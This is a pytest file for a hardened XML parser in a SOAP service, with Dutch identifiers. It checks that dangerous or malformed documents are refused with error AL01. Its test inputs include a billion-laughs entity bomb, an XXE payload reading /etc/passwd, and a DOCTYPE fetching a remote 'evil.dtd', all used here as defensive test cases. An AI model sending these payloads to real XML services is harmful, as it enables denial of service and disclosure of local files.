"""The hardened XML entry point refuses every dangerous or broken input with AL01 (spec section 13)."""
from __future__ import annotations

import time

import pytest

from rod_service.soap import xml as soap_xml
from rod_service.soap.render import fault
from rod_service.soap.xml import XmlFout, parse_xml


def _weigert(data: bytes, **limieten) -> XmlFout:
    with pytest.raises(XmlFout) as info:
        parse_xml(data, **limieten)
    assert info.value.code == "AL01"
    return info.value


def test_keeps_line_numbers_of_a_good_document():
    root = parse_xml(b'<?xml version="1.0"?>\n<a>\n  <b/>\n</a>')
    assert root[0].sourceline == 3


def test_billion_laughs_is_refused_before_any_entity_expands():
    entiteiten = "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">\n' for i in range(1, 10))
    bom = f'<?xml version="1.0"?>\n<!DOCTYPE lolz [\n<!ENTITY lol0 "lol">\n{entiteiten}]>\n<lolz>&lol9;</lolz>'
    begin = time.perf_counter()
    fout = _weigert(bom.encode())
    assert time.perf_counter() - begin < 1
    assert "DOCTYPE" in fout.omschrijving


def test_xxe_is_refused_and_no_file_content_leaks():
    xxe = b'<?xml version="1.0"?>\n<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n<x>&x;</x>'
    fout = _weigert(xxe)
    antwoord = fault(fout.code, fout.omschrijving, regel=fout.regel)
    assert b"root:" not in antwoord and b"/bin/" not in antwoord


@pytest.mark.parametrize("doctype", [
    b'<!DOCTYPE x SYSTEM "http://192.0.2.1/evil.dtd">',
    b'<!DOCTYPE x PUBLIC "-//x//y" "file:///etc/passwd">',
    b"<!DOCTYPE x>",
])
def test_any_doctype_is_refused_without_fetching_it(doctype):
    begin = time.perf_counter()
    _weigert(doctype + b"<x/>")
    assert time.perf_counter() - begin < 1  # no network attempt to the unroutable address


def test_doctype_in_utf16_is_refused_too():
    _weigert('<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x><x/>'.encode("utf-16"))


def test_depth_of_ten_thousand_is_refused():
    fout = _weigert(b"<a>" * 10_000 + b"</a>" * 10_000)
    assert "genest" in fout.omschrijving


def test_depth_limit_is_configurable():
    assert parse_xml(b"<a><b><c/></b></a>", max_depth=3) is not None
    fout = _weigert(b"<a><b>\n<c><d/></c></b></a>", max_depth=3)
    assert fout.regel == 2


def test_size_over_the_limit_is_refused_without_parsing(monkeypatch):
    def niet_parsen(*args, **kwargs):
        raise AssertionError("parsed an oversized document")

    monkeypatch.setattr(soap_xml.etree, "fromstring", niet_parsen)
    fout = _weigert(b"<a>" + b"x" * 100 + b"</a>", max_bytes=50)
    assert "50 bytes" in fout.omschrijving


def test_invalid_utf8_is_refused_with_its_line():
    fout = _weigert(b'<?xml version="1.0" encoding="UTF-8"?>\n<a>\n\xff\xfe</a>')
    assert fout.regel == 3


@pytest.mark.parametrize("data", [
    b"",
    b"<a><b></a>",
    b"<a>&onbekend;</a>",
    b'<?xml version="1.0" encoding="klingon"?><a/>',
    b"geen xml",
])
def test_malformed_input_is_al01(data):
    _weigert(data)


def test_utf16_document_without_doctype_is_accepted():
    root = parse_xml('<?xml version="1.0" encoding="UTF-16"?><a>hé</a>'.encode("utf-16"))
    assert root.text == "hé"
